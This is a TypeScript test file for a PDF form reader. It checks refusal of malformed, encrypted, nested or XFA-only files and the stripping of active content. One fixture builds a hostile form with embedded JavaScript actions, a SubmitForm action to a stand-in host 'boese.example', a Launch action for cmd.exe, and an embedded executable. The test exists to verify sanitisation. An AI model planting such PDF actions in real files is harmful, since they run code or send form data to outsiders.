import { describe, expect, test } from 'vitest';
import { readForm } from '../../../../modules/pdf/contract-forms/read-form.ts';
import { crafted, pageOf, streamOf } from '../../../server/support/crafted-pdf.ts';
import { samplePdf } from '../../../server/support/pdfs.ts';
import { byQpdf, describeWithPdfTools } from '../pdf-tools.ts';
import { craftedForm, textField } from './made-form.ts';

const faultOf = async (bytes: Uint8Array) => {
  const answer = await readForm({ bytes: new Uint8Array(bytes) });
  return 'fault' in answer ? answer.fault : 'read';
};

describe('a file that is no form', () => {
  test('is refused by its fault', async () => {
    expect(await faultOf(crafted(pageOf(streamOf('')), '/Root 1 0 R/Size 9'))).toBe('no-fields');
    expect(await faultOf(craftedForm({ fields: [], form: '/XFA[(template) 9 0 R]' }))).toBe('read');
    expect(await faultOf(Buffer.from('%PDF-1.7\nnothing of one'))).toBe('broken');
    expect(await faultOf(craftedForm().subarray(0, 3_000))).toBe('broken');
    expect(await faultOf(await samplePdf('Anderes-9'))).toBe('encrypted');
    expect(await faultOf(craftedForm({ pages: 41 }))).toBe('pages');
    const many = Array.from({ length: 501 }, (_, index) => textField(`Feld ${index}`));
    expect(await faultOf(craftedForm({ fields: many }))).toBe('fields');
  });

  test('is refused with fields that nest without end, or contain themselves', async () => {
    const deep = Object.fromEntries(
      Array.from({ length: 30 }, (_, index) => [
        5000 + index,
        [`<</T(e${index})/Kids[${5001 + index} 0 R]>>`],
      ]),
    );
    const objects = { ...deep, 5030: ['<</T(end)/FT/Tx/Rect[0 0 9 9]>>'] };
    expect(await faultOf(craftedForm({ fields: [{ dict: '/T(a)/Kids[5000 0 R]' }], objects }))).toBe(
      'fields',
    );
    const circle = { 5000: ['<</T(a)/Kids[5000 0 R 100 0 R]>>'] };
    expect(
      await faultOf(craftedForm({ fields: [{ dict: '/T(b)/FT/Tx/Parent 5000 0 R' }], objects: circle })),
    ).toBe('read');
  });

  test('says so if its fields are only described as XFA', async () => {
    const bytes = crafted(
      pageOf(streamOf(''), {
        1: ['<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 5 0 R>>>>'],
        5: streamOf('<xdp/>'),
      }),
      '/Root 1 0 R/Size 9',
    );
    expect(await faultOf(bytes)).toBe('dynamic');
  });
});

const SCRIPT = 'app.alert(1)';
const ACTION = `<</S/JavaScript/JS(${SCRIPT})>>`;

describeWithPdfTools('a form with scripts', () => {
  test('is kept without them, without its files and without XFA', async () => {
    const harmful = craftedForm({
      catalogue: `/OpenAction ${ACTION}/AA<</WC ${ACTION}>>/Names<</JavaScript<</Names[(a) ${ACTION}]>>/EmbeddedFiles<</Names[(b) 5001 0 R]>>>>`,
      form: `/XFA 5000 0 R/CO[100 0 R]`,
      page: `/AA<</O ${ACTION}>>`,
      fields: [
        textField('Name', `/AA<</K ${ACTION}/F ${ACTION}>>/A ${ACTION}`),
        { dict: '/FT/Btn/Ff 65536/T(Senden)/A<</S/SubmitForm/F(https://boese.example)>>' },
        { dict: '/FT/Btn/Ff 65536/T(Start)/A<</Next[5003 0 R]/S/Launch/F(cmd.exe)>>' },
        { dict: '/Subtype/FileAttachment/T(Anhang)/FS 5001 0 R' },
      ],
      objects: {
        5000: streamOf('<xdp>geheim</xdp>'),
        5001: ['<</Type/Filespec/F(b.exe)/EF<</F 5002 0 R>>>>'],
        5002: streamOf('MZ-Programm', '/Type/EmbeddedFile'),
        5003: [ACTION],
      },
    });
    const answer = await readForm({ bytes: new Uint8Array(harmful) });
    const { file, fields } = 'fault' in answer ? expect.fail(answer.fault) : answer;
    expect(fields.map(({ name }) => name)).toEqual(['Name', 'Geschlecht']);
    const plain = byQpdf(['--qdf', '--object-streams=disable'], file).toString('latin1');
    for (const gone of [
      SCRIPT,
      '/JavaScript',
      '/SubmitForm',
      'boese',
      '/Launch',
      'cmd.exe',
      'XFA',
      'geheim',
      'MZ-Programm',
      '/OpenAction',
      '/AA',
    ])
      expect(plain).not.toContain(gone);
    // What readers with a screen need stays.
    expect(plain).toContain('/StructTreeRoot');
  });
});
